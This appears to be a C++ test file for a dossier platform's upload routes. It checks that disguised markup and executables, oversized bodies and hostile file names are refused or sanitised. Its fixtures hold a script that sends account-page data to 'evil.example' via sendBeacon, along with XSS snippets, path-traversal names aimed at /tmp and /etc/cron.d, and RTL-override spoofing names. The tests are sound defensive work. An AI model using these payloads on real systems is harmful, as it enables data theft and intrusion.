// Hostile uploads over HTTP on the real upload routes: the dossier's attachment route
// (/dossiers/{id}/pieces) and the dossier form (/dossiers/{id}/modifier, files posted with the
// answers). Markup that claims to be a PDF is refused and nothing is stored; oversized files and
// bodies get 413; hostile file names never reach the file system (only hash-named files exist
// under the store) and come back sanitised, in a download that cannot be rendered inline.

#include "labelling/dossier_test_support.hpp"

#include "files/attachment_store.hpp"
#include "http/multipart.hpp"
#include "labelling/dossier_attachment.hpp"

#include <gtest/gtest.h>

#include <filesystem>
#include <optional>
#include <sstream>

namespace essaim::test {
namespace {

using namespace labelling_fixtures;
using namespace dossier_support;

struct UploadCast {
    Actor applicant = auth_support::signed_in_actor("televersement-candidat");
    long long organisation = published_organisation(applicant, "Ruche des téléversements hostiles");
    long long call = call_with_form("Appel du test des téléversements");
};

UploadCast& cast()
{
    static UploadCast instance;
    return instance;
}

files::AttachmentStore store() { return labelling::dossier_file_store(TestPlatform::instance().config()); }

std::string d(long long id) { return "/dossiers/" + std::to_string(id); }

long long draft() { return dossier_in_state(cast().call, cast().organisation, cast().applicant.user_id, "brouillon"); }

//! One part as a hostile client writes it: the raw `filename` parameter and the declared type.
struct RawFile {
    std::string input_name;
    std::string disposition_file;  //!< what follows `filename` in the header, e.g. `="a.pdf"`
    std::string content_type;
    std::string bytes;
};

HttpResponse post_raw_multipart(HttpClient& client, const std::string& target, Fields fields,
    const std::vector<RawFile>& files, bool json = false)
{
    fields.emplace_back("csrf_token", client.csrf_token());
    std::string body;
    for (const auto& [name, value] : fields)
        body += "--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n";
    for (const auto& file : files)
        body += "--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + file.input_name + "\"; filename"
            + file.disposition_file + "\r\nContent-Type: " + file.content_type + "\r\n\r\n" + file.bytes + "\r\n";
    body += "--" + boundary + "--\r\n";
    Fields headers{{"Content-Type", "multipart/form-data; boundary=" + boundary}};
    if (json)
        headers.emplace_back("Accept", "application/json");
    return client.request("POST", target, body, headers);
}

std::size_t stored_file_count()
{
    auto hashes = store().list_hashes();
    return hashes ? hashes->size() : 0;
}

long long attachment_count(long long dossier)
{
    return count("SELECT COUNT(*) FROM dossier_attachments WHERE dossier_id = :id", dossier);
}

//! The HTML tag of the input named `name`, or "".
std::string input_tag(const std::string& html, const std::string& name)
{
    auto at = html.find("name=\"" + name + "\"");
    if (at == std::string::npos)
        return {};
    auto start = html.rfind('<', at);
    return html.substr(start, html.find('>', at) - start + 1);
}

const std::string html_page = "<!DOCTYPE html>\n<html><body><script>fetch('/compte').then(r => r.text())"
                              ".then(t => navigator.sendBeacon('https://evil.example/', t))</script></body></html>\n";

TEST(Upload, HtmlClaimingToBeAPdfIsRefusedOnTheFormNextToTheFieldAndNothingIsStored)
{
    auto dossier = draft();
    auto files_before = stored_file_count();
    auto form = post_raw_multipart(cast().applicant.client, d(dossier) + "/modifier",
        {{"champ_presentation", "Présentation gardée malgré le fichier refusé"}, {"action", "brouillon"}},
        {{"fichier_statuts", "=\"statuts.pdf\"", "application/pdf", html_page}});
    EXPECT_EQ(form.status, 422);
    // The message stands next to the file input, which says it is invalid and points to it.
    auto tag = input_tag(form.body, "fichier_statuts");
    ASSERT_FALSE(tag.empty()) << form.body.substr(0, 500);
    EXPECT_NE(tag.find("aria-invalid=\"true\""), std::string::npos) << tag;
    EXPECT_NE(tag.find("-erreur"), std::string::npos) << tag;
    auto error_at = form.body.find("fr-error-text", form.body.find("name=\"fichier_statuts\""));
    ASSERT_NE(error_at, std::string::npos);
    EXPECT_NE(form.body.substr(error_at, 400).find("type accepté"), std::string::npos);
    EXPECT_NE(form.body.find("Présentation gardée malgré le fichier refusé"), std::string::npos);
    EXPECT_EQ(attachment_count(dossier), 0);
    EXPECT_EQ(stored_file_count(), files_before);
}

TEST(Upload, MarkupAndExecutablesAreRefusedWhateverTheirNameOrDeclaredType)
{
    auto dossier = draft();
    auto files_before = stored_file_count();
    std::string executable = "MZ\x90";
    executable += std::string("\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", 11);
    executable += std::string(200, '\x01');
    struct Case {
        const char* name;
        const char* content_type;
        std::string bytes;
    };
    const std::vector<Case> cases = {
        {"statuts.pdf", "application/pdf", html_page},
        {"statuts.pdf", "application/pdf", "\xEF\xBB\xBF  \n<html><script>alert(1)</script></html>"},
        {"logo.png", "image/png", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"},
        {"notes.txt", "text/plain", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"},
        {"lisez-moi.txt", "text/plain", "<html><script>alert(1)</script></html>"},
        {"statuts.pdf", "application/pdf", executable},
        {"statuts.pdf", "application/pdf", "%PDF-1.4\n<html><script>alert(1)</script></html>\n"},  // no %%EOF
    };
    for (const auto& c : cases) {
        auto refused = post_raw_multipart(cast().applicant.client, d(dossier) + "/pieces", {},
            {{"fichier", std::string("=\"") + c.name + "\"", c.content_type, c.bytes}});
        EXPECT_EQ(refused.status, 415) << c.name << ": " << c.bytes.substr(0, 40);
        auto as_json = post_raw_multipart(cast().applicant.client, d(dossier) + "/pieces", {},
            {{"fichier", std::string("=\"") + c.name + "\"", c.content_type, c.bytes}}, true);
        EXPECT_EQ(as_json.status, 415);
        EXPECT_EQ(as_json.header("content-type").value_or(""), "application/problem+json");
    }
    EXPECT_EQ(attachment_count(dossier), 0);
    EXPECT_EQ(stored_file_count(), files_before);
}

TEST(Upload, FileBeyondTenMebibytesIs413OnBothRoutesAndNothingIsStored)
{
    auto dossier = draft();
    auto files_before = stored_file_count();
    auto big = pdf_bytes(labelling::max_attachment_bytes + 10);
    auto route = post_raw_multipart(cast().applicant.client, d(dossier) + "/pieces", {},
        {{"fichier", "=\"trop-gros.pdf\"", "application/pdf", big}});
    EXPECT_EQ(route.status, 413);
    auto form = post_raw_multipart(cast().applicant.client, d(dossier) + "/modifier",
        {{"champ_presentation", "Texte"}, {"action", "brouillon"}},
        {{"fichier_statuts", "=\"trop-gros.pdf\"", "application/pdf", big}});
    EXPECT_EQ(form.status, 413);
    EXPECT_EQ(attachment_count(dossier), 0);
    EXPECT_EQ(stored_file_count(), files_before);
}

TEST(Upload, BodyBeyondTheUploadBoundIs413WithoutReadingIt)
{
    auto& platform = TestPlatform::instance();
    auto dossier = draft();
    auto& client = cast().applicant.client;
    std::string cookies = "__Host-csrf=" + client.csrf_token() + "; __Host-session=" + client.cookie("__Host-session").value_or("");
    std::string head = "POST " + d(dossier) + "/pieces HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: " + cookies
        + "\r\nContent-Type: multipart/form-data; boundary=" + boundary + "\r\n";
    // A declared length beyond max_upload_bytes: refused from the header alone, no body sent.
    auto declared = client.send_raw(head + "Content-Length: " + std::to_string(platform.config().max_upload_bytes + 1) + "\r\n\r\n");
    EXPECT_EQ(declared.rfind("HTTP/1.1 413", 0), 0u) << declared.substr(0, 200);
    // The same without a length (chunked): refused once the bound is crossed.
    std::string chunk(256 * 1024, 'x');
    std::string chunks;
    std::ostringstream size;
    size << std::hex << chunk.size();
    for (std::size_t sent = 0; sent <= platform.config().max_upload_bytes; sent += chunk.size())
        chunks += size.str() + "\r\n" + chunk + "\r\n";
    auto chunked = client.send_raw(head + "Transfer-Encoding: chunked\r\n\r\n" + chunks + "0\r\n\r\n");
    EXPECT_EQ(chunked.rfind("HTTP/1.1 413", 0), 0u) << chunked.substr(0, 200);
    // Other bodies have the smaller bound of forms.
    auto form = client.send_raw("POST /connexion HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                                "Content-Length: "
        + std::to_string(platform.config().max_body_bytes + 1) + "\r\n\r\n");
    EXPECT_EQ(form.rfind("HTTP/1.1 413", 0), 0u) << form.substr(0, 200);
    EXPECT_EQ(attachment_count(dossier), 0);
    // The server is still there.
    EXPECT_EQ(client.get(d(dossier)).status, 200);
}

bool hidden_or_control(char32_t code)
{
    return code < 0x20 || (code >= 0x7f && code < 0xa0) || (code >= 0x200b && code <= 0x200f)
        || (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069) || code == 0x2028 || code == 0x2029
        || code == 0xfeff;
}

//! The code points of clean UTF-8 (the stored names must be clean UTF-8; anything else fails).
std::optional<std::u32string> decode(const std::string& text)
{
    std::u32string out;
    for (std::size_t i = 0; i < text.size();) {
        auto byte = static_cast<unsigned char>(text[i]);
        int length = byte < 0x80 ? 1 : (byte >> 5) == 6 ? 2 : (byte >> 4) == 14 ? 3 : (byte >> 3) == 30 ? 4 : 0;
        if (length == 0 || i + length > text.size())
            return std::nullopt;
        char32_t code = length == 1 ? byte : byte & (0xff >> (length + 1));
        for (int k = 1; k < length; ++k)
            code = (code << 6) | (static_cast<unsigned char>(text[i + k]) & 0x3f);
        out += code;
        i += static_cast<std::size_t>(length);
    }
    return out;
}

TEST(Upload, HostileFileNamesNeverReachTheFileSystemAndAreSanitisedForDisplay)
{
    auto& platform = TestPlatform::instance();
    auto dossier = draft();
    const std::string long_name = std::string(2000, 'a') + ".txt";
    // What follows `filename` in the part header.
    const std::vector<std::string> names = {
        "=\"../../../../../../tmp/essaim-hostile-traversal.txt\"",
        "=\"..\\\\..\\\\..\\\\essaim-hostile-windows.txt\"",
        "=\"/etc/cron.d/essaim-hostile-absolute\"",
        "=\"C:\\\\Windows\\\\essaim-hostile-drive.txt\"",
        "*=UTF-8''..%2F..%2F..%2Fessaim-hostile-encoded.txt",
        "*=UTF-8''essaim%00hostile%0D%0Anul.txt",
        "=\"essaim\x01\x1f\x7fhostile-controls.txt\"",
        std::string("=\"essaim-hostile") + std::string("\0", 1) + "nul.txt\"",
        "=\"facture\xE2\x80\xAEtxt.exe\"",             // U+202E: shows as "facture" + "exe.txt" reversed
        "=\"rapport\xE2\x81\xA6\xE2\x80\x8B" "cache.txt\"",  // U+2066 isolate and U+200B zero width
        "=\"" + long_name + "\"",
        "=\"..\"",
        "=\".htaccess\"",
        "=\"essaim\xff\xfehostile-invalid-utf8.txt\"",
        "=\"a\"; filename=\"../essaim-hostile-second.txt\"",
    };
    int stored_rows = 0;
    for (std::size_t i = 0; i < names.size(); ++i) {
        std::string content = "Pièce " + std::to_string(i) + " du dossier " + std::to_string(dossier) + "\n";
        auto response = post_raw_multipart(cast().applicant.client, d(dossier) + "/pieces", {},
            {{"fichier", names[i], "text/plain", content}});
        // Either refused as malformed (400, or 403 when the unreadable body hides the CSRF field),
        // or stored under a sanitised display name.
        ASSERT_TRUE(response.status == 303 || response.status == 400 || response.status == 403)
            << names[i].substr(0, 80) << " → " << response.status;
        if (response.status != 303)
            continue;
        ++stored_rows;
        auto piece = count("SELECT MAX(id) FROM dossier_attachments WHERE dossier_id = :id", dossier);
        auto stored = query_text("SELECT file_name FROM dossier_attachments WHERE id = :id", piece);
        SCOPED_TRACE(names[i].substr(0, 80) + " stored as " + stored.substr(0, 80));
        EXPECT_FALSE(stored.empty());
        EXPECT_LE(stored.size(), http::max_file_name_bytes);
        EXPECT_EQ(stored.find_first_of("/\\<>:\"|?*"), std::string::npos);
        EXPECT_NE(stored.front(), '.');
        EXPECT_NE(stored, "..");
        auto code_points = decode(stored);
        ASSERT_TRUE(code_points);
        for (char32_t code : *code_points)
            EXPECT_FALSE(hidden_or_control(code)) << "U+" << std::hex << static_cast<unsigned>(code);
        if (names[i].find(long_name) != std::string::npos) {
            EXPECT_EQ(stored.substr(stored.size() - 4), ".txt");
        }

        // The download: one header line, an attachment, no sniffing; the bytes are those sent.
        auto download = cast().applicant.client.get(d(dossier) + "/pieces/" + std::to_string(piece));
        ASSERT_EQ(download.status, 200);
        EXPECT_EQ(download.body, content);
        auto disposition = download.header("content-disposition").value_or("");
        EXPECT_EQ(disposition.rfind("attachment;", 0), 0u) << disposition;
        EXPECT_EQ(disposition.find_first_of("\r\n/\\"), std::string::npos) << disposition;
        EXPECT_EQ(download.all("content-disposition").size(), 1u);
        EXPECT_EQ(download.header("x-content-type-options").value_or(""), "nosniff");
        EXPECT_EQ(download.header("content-type").value_or("").rfind("text/plain", 0), 0u);
    }
    EXPECT_GE(stored_rows, 10);
    EXPECT_EQ(attachment_count(dossier), stored_rows);

    // Only hash names under the store: <2 hex>/<2 hex>/<64 hex>.
    namespace fs = std::filesystem;
    auto root = store().root();
    std::size_t files = 0;
    for (const auto& entry : fs::recursive_directory_iterator(root)) {
        auto relative = fs::relative(entry.path(), root);
        auto depth = std::distance(relative.begin(), relative.end());
        auto name = entry.path().filename().string();
        if (entry.is_directory()) {
            EXPECT_TRUE(depth <= 2 && name.size() == 2 && name.find_first_not_of("0123456789abcdef") == std::string::npos)
                << relative;
        } else {
            ++files;
            EXPECT_TRUE(depth == 3 && files::AttachmentStore::is_valid_hash(name)) << relative;
        }
    }
    EXPECT_GE(files, static_cast<std::size_t>(stored_rows));
    // And nothing named after the client's names anywhere under the data directory or outside it.
    for (const auto& entry : fs::recursive_directory_iterator(platform.config().var_dir))
        EXPECT_EQ(entry.path().string().find("essaim-hostile"), std::string::npos) << entry.path();
    for (const char* outside : {"/tmp/essaim-hostile-traversal.txt", "/etc/cron.d/essaim-hostile-absolute"})
        EXPECT_FALSE(fs::exists(outside)) << outside;
}

TEST(Upload, TextWithMarkupInsideIsServedAsPlainTextDownloadOnly)
{
    // Text that only contains markup further down is accepted as text: it must still never be
    // rendered by the browser, as this application's page.
    auto dossier = draft();
    std::string content = "Compte rendu de la réunion\n<script>alert(document.cookie)</script>\n";
    ASSERT_EQ(post_raw_multipart(cast().applicant.client, d(dossier) + "/pieces", {},
                  {{"fichier", "=\"compte-rendu.html\"", "text/html", content}})
                  .status,
        303);
    auto piece = count("SELECT MAX(id) FROM dossier_attachments WHERE dossier_id = :id", dossier);
    EXPECT_EQ(query_text("SELECT content_type FROM dossier_attachments WHERE id = :id", piece).rfind("text/plain", 0), 0u);
    auto download = cast().applicant.client.get(d(dossier) + "/pieces/" + std::to_string(piece));
    ASSERT_EQ(download.status, 200);
    EXPECT_EQ(download.header("content-type").value_or("").rfind("text/plain", 0), 0u);
    EXPECT_EQ(download.header("content-disposition").value_or("").rfind("attachment;", 0), 0u);
    EXPECT_EQ(download.header("x-content-type-options").value_or(""), "nosniff");
    EXPECT_EQ(download.header("content-security-policy").value_or("").find("unsafe-inline"), std::string::npos);
    EXPECT_NE(download.header("cache-control").value_or("").find("no-store"), std::string::npos);

    // Someone who may not read the dossier gets nothing, not even its existence.
    auto stranger = auth_support::signed_in_actor("televersement-etranger");
    EXPECT_EQ(stranger.client.get(d(dossier) + "/pieces/" + std::to_string(piece)).status, 404);
    HttpClient visitor(TestPlatform::instance().port());
    EXPECT_EQ(visitor.get(d(dossier) + "/pieces/" + std::to_string(piece)).status, 303);
}

TEST(Upload, UploadsNeedTheCsrfTokenAndASignedInEditor)
{
    auto dossier = draft();
    auto files_before = stored_file_count();
    std::string body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"fichier\"; filename=\"a.txt\"\r\n"
        "Content-Type: text/plain\r\n\r\nSans jeton\r\n--" + boundary + "--\r\n";
    auto without_token = cast().applicant.client.request("POST", d(dossier) + "/pieces", body,
        {{"Content-Type", "multipart/form-data; boundary=" + boundary}});
    EXPECT_EQ(without_token.status, 403);
    auto stranger = auth_support::signed_in_actor("televersement-intrus");
    auto intruder = post_raw_multipart(stranger.client, d(dossier) + "/pieces", {},
        {{"fichier", "=\"intrus.txt\"", "text/plain", "Pièce d’un intrus\n"}});
    EXPECT_EQ(intruder.status, 404);
    EXPECT_EQ(attachment_count(dossier), 0);
    EXPECT_EQ(stored_file_count(), files_before);
}

} // namespace
} // namespace essaim::test
